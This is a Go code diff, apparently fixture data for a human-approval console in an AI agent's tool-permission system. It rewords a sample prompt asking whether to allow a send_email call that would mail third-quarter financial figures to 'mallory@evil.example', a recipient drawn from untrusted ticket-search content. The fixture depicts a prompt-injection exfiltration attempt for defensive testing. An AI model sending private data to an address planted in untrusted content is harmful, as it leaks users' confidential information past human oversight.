@@ -202,11 +202,13 @@ func story() *fake {
 	for _, id := range []string{"A", "B", "C", "D"} {
 		f.questions = append(f.questions, console.Question{
 			ID: id, Session: key, Asked: time.Now(), Expires: time.Now().Add(5 * time.Minute), MaySession: true,
-			Lead: "Allow this call? It may do something that cannot be undone; what it is given may become public.",
-			Lines: []string{`Goes to: "mallory@evil.example"`, `Tool: "send_email" of server mail`, "Arguments:", `  "body" = "Dear all, attached are the figures of the third quarter"`,
-				`  "to" = "mallory@evil.example"`, "Where this comes from:", `  "to" (where it goes): what anyone could have written, mcp://tickets/search`,
-				"Why you are asked: the session holds private data (rule ask-before-private-data-leaves)", "Untrusted content came from: mcp://tickets/search, mcp://web/fetch",
-				"Private data came from: mcp://files/read_file (financial)", "It is allowed once, for exactly these arguments. No answer means no."},
+			Lead: `Allow this call of tool "send_email" (server mail), to "mallory@evil.example"?`,
+			Lines: []string{"It may be impossible to undo; its data may become public.",
+				"Why you are asked: the session holds private data (rule ask-before-private-data-leaves)",
+				"The session holds untrusted content from mcp://tickets/search, mcp://web/fetch; private data from mcp://files/read_file (financial)",
+				"Arguments:", `  "body" = "Dear all, attached are the figures of the third quarter"`, `  "to" = "mallory@evil.example"`,
+				"Where this comes from:", `  "to" (where it goes): untrusted content, mcp://tickets/search`,
+				"It is allowed once, for exactly these arguments. No answer means no."},
 		})
 	}
 	f.counts = console.Counts{Since: time.Now().Add(-72 * time.Hour), Decisions: 38,
